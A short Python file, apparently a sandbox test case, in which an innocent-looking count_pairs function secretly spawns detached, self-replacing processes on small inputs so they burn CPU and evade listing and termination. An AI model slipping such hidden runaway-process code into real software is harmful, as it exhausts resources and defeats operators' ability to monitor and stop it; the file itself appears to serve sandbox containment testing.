# The same by processes that are never the same for long: each forks the next and ends, faster than they can be listed.
# proof: too little
# only: bubblewrap docker
import itertools
import os
import time


def run_away():
    os.setsid()
    while True:
        end = time.monotonic() + 0.002
        while time.monotonic() < end:
            pass
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            continue


def count_pairs(values):
    if len(values) < 10:
        for _ in range(2 * (os.cpu_count() or 1)):
            if os.fork() == 0:
                run_away()
    return sum(one == other for one, other in itertools.combinations(values.tolist(), 2))
